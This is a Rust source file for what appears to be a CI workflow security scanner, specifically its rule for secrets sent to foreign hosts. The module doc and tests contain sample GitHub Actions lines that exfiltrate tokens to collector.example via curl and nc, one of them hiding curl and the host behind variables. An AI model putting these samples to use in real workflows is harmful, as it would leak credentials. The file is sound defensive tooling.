//! Secrets are sent to a host.
//!
//! The commonest theft: a step that has secrets in its environment or its text calls `curl` or another client, and
//! the values travel in the body, a header or the address. The host is written in the file, and it is none that the
//! secret has a reason to go to.
//!
//! ```yaml
//! - run: curl -d "A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}" https://collector.example/
//! ```
//!
//! Sending one credential to the service that issued it, or to a host that the owner configured outside the file, is
//! how deployments work, and is not reported. What makes it a theft is that more is taken than the receiver can use
//! (unrelated secrets, all of them, their names along with them), or that trouble is taken to hide it.

use crate::flow::command::REMOTE_CODE;
use crate::flow::trace::{Channel, Role};
use crate::flow::value::Source;
use crate::report::Class;
use crate::signal::Signal;
use crate::technique::{Evidence, Sighting, Technique, is_namesake, named_secrets, resembles, unrelated};

/// See the module's documentation.
pub(super) struct SecretToHost;

impl Technique for SecretToHost {
    fn id(&self) -> &'static str {
        "secret-to-host"
    }
    fn headline(&self) -> &'static str {
        "{secrets} sent to {places}"
    }
    fn remedy(&self) -> &'static str {
        "invalidate every secret listed, take the workflow out of every branch that still has it, and look who pushed it"
    }
    fn source(&self) -> &'static str {
        include_str!("secret_to_host.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let groups = evidence.grouped(|delivery, _| {
            matches!(delivery.channel, Channel::Network | Channel::Dns | Channel::Registry)
                && delivery.client != REMOTE_CODE
        });
        groups.into_iter().filter_map(|group| judge(evidence, group)).collect()
    }
}

fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
    let (_, place) = evidence.delivery(*group.first()?)?;
    let mut signals = evidence.cargo_signals(&group);
    let carried = evidence.carried(&group);
    let names = named_secrets(&carried);
    let payload = group
        .iter()
        .filter_map(|at| evidence.delivery(*at))
        .any(|(delivery, _)| delivery.role != Role::Authentication);
    let everything = signals.contains(&Signal::AllSecrets) || signals.contains(&Signal::MemoryRead);
    let greedy = everything || signals.contains(&Signal::EnvironmentDump);
    if place.class == Class::Configured {
        // The owner chose the address. Only a greedy delivery is worth a look; an address that whoever starts the run
        // may choose is nobody's setting.
        if !greedy && !signals.contains(&Signal::MaskEvasion) {
            return None;
        }
        let by_caller = place.name.starts_with("inputs.") || place.name.starts_with("github.event");
        signals.insert(if by_caller && everything {
            Signal::ForeignDestination
        } else {
            Signal::ConfiguredDestination
        });
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    if place.class == Class::Unknown && place.host.is_none() && place.service.is_none() {
        signals.insert(Signal::UnknownDestination);
        if everything {
            signals.insert(Signal::ForeignDestination);
        }
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    if let Some(service) = place.service {
        let strangers = unrelated(&names, Some(&service.name), None);
        let misplaced = payload && strangers;
        if !everything && !misplaced {
            return None;
        }
        signals.insert(Signal::BelongsThere);
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    let host = place.host.as_deref().unwrap_or("");
    let namesakes = !names.is_empty() && names.iter().all(|name| is_namesake(name, host));
    if namesakes && carried.iter().all(|one| matches!(one.source, Source::Secret(_) | Source::JobToken)) {
        // Named after the owner of the host: the credential that the host itself gave out.
        return None;
    }
    if place.class == Class::Chat && is_own_hook(evidence, &group) {
        return None;
    }
    signals.insert(Signal::ForeignDestination);
    if place.class == Class::RawAddress {
        signals.insert(Signal::RawAddress);
    }
    if place.is_drop_box() {
        signals.insert(Signal::DropBox);
    }
    if place.class == Class::LookAlike {
        signals.insert(Signal::LookAlike);
    }
    if place.url.as_ref().is_some_and(|url| url.unescaped().starts_with("http://")) {
        signals.insert(Signal::PlainHttp);
    }
    let bare = |at: &usize| {
        evidence.delivery(*at).is_some_and(|(delivery, _)| delivery.bare && delivery.role == Role::Payload)
    };
    if group.iter().any(bare)
        && signals.contains(&Signal::RawAddress)
        && signals.contains(&Signal::SinglePurpose)
    {
        signals.insert(Signal::BareSecret);
    }
    let job_token = carried.iter().any(|one| one.source == Source::JobToken);
    let login_host = (!payload).then_some(host);
    let to_chat = place.class == Class::Chat && payload;
    let shipped = group
        .iter()
        .filter_map(|at| evidence.delivery(*at))
        .all(|(delivery, _)| SHIPPING.contains(&delivery.client.as_str()));
    if shipped
        && !signals.contains(&Signal::SinglePurpose)
        && !names.iter().any(|name| opens_publishing(name))
    {
        // Settings for the owner's own server, by a login that the server itself must have given.
        signals.remove(&Signal::LabelledSecrets);
        signals.insert(Signal::LogsInFirst);
        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
    }
    if unrelated(&names, None, login_host)
        || several_purposes(&names)
        || (job_token && !names.is_empty())
        || to_chat
    {
        signals.insert(Signal::UnrelatedSecrets);
    }
    let scheme =
        place.url.as_ref().and_then(|url| url.unescaped().split_once("://")).map_or("", |(scheme, _)| scheme);
    if !payload && place.class == Class::Unknown && names.iter().any(|name| resembles(name, host, scheme)) {
        signals.insert(Signal::NamedAlike);
    }
    Some(Sighting { deliveries: group, signals, ..Sighting::default() })
}

/// Clients that log in to a machine before they send.
const SHIPPING: &[&str] = &["ssh", "scp", "sftp", "rsync", "lftp", "ftp", "mosh"];

/// Whether a secret opens something that no server needs for running: a package registry, a forge.
fn opens_publishing(name: &str) -> bool {
    crate::services::of_secret(name)
        .is_some_and(|service| service.publishes && service.name != "docker-hub" || service.name == "github")
}

/// A chat host whose address holds the credential of the chat itself, and whose message holds no more than the name of
/// a room: a notification. A secret in the message of a hook is of no use to any chat.
fn is_own_hook(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    const ROOMS: &[&str] = &["CHAT", "CHANNEL", "ROOM", "USER", "THREAD", "ID", "TO", "TARGET", "TOPIC"];
    let deliveries: Vec<_> =
        group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery).collect();
    let own = deliveries.iter().any(|delivery| delivery.role != Role::Payload);
    let rooms = deliveries
        .iter()
        .filter(|delivery| delivery.role == Role::Payload)
        .flat_map(|delivery| &delivery.carried)
        .all(|one| one.source.name().to_ascii_uppercase().split('_').any(|word| ROOMS.contains(&word)));
    own && rooms
}

/// Names that share no word but those that every credential has: nothing ties them together.
fn several_purposes(names: &std::collections::BTreeSet<String>) -> bool {
    const COMMON: &[&str] = &[
        "TOKEN", "KEY", "SECRET", "PASSWORD", "PASS", "API", "ID", "USER", "USERNAME", "URL", "HOST", "AUTH",
        "ACCESS",
    ];
    if names.len() < 3 {
        return false;
    }
    let stems: std::collections::BTreeSet<String> = names
        .iter()
        .map(|name| {
            let upper = name.to_ascii_uppercase();
            upper.split('_').find(|word| !COMMON.contains(word)).unwrap_or("").to_owned()
        })
        .collect();
    stems.len() >= 3
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn two_unrelated_secrets_in_one_request() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example\n",
            Verdict::Malicious,
            &["NPM_TOKEN", "PYPI_API_TOKEN"],
            &["collector.example"],
        );
    }

    #[test]
    fn an_environment_piped_to_a_socket() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {DB: '${{ secrets.DB_PASSWORD }}', J: '${{ secrets.JWT }}'}\n    steps:\n      - run: (env; echo) | nc -w 3 collector.example 53\n",
            Verdict::Malicious,
            &["DB_PASSWORD", "JWT"],
            &["collector.example"],
        );
    }

    /// Evasion: the secret goes through the environment file, the address through variables.
    #[test]
    fn a_flow_over_steps_and_variables() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"N=${{ secrets.NPM_TOKEN }}\" >> \"$GITHUB_ENV\"\n      - run: |\n          h=collector\n          z=cu; y=rl\n          $z$y --data-binary \"@-\" \"https://$h.example/x\" <<EOF\n          $N\n          EOF\n",
            Verdict::Malicious,
            &["NPM_TOKEN"],
            &["collector.example"],
        );
    }

    /// Near miss: the service that issued it, and a host that the owner configured.
    #[test]
    fn a_credential_at_its_own_service_or_a_configured_host() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -u \"x:${{ secrets.PYPI_API_TOKEN }}\" https://upload.pypi.org/legacy/\n",
        );
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '{}' ${{ secrets.DEPLOY_HOOK }}\n",
        );
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.KEY }}\" https://${{ vars.HOST }}/deploy\n",
        );
    }

    /// Near miss: one credential as the login to an unknown host may be the owner's own server.
    #[test]
    fn one_credential_at_an_unknown_host_is_for_a_person_to_look_at() {
        check(
            "secret-to-host",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.DEPLOY }}\" https://ci.widgets.example/deploy\n",
            Verdict::Suspicious,
            &["DEPLOY"],
            &["ci.widgets.example"],
        );
    }
}
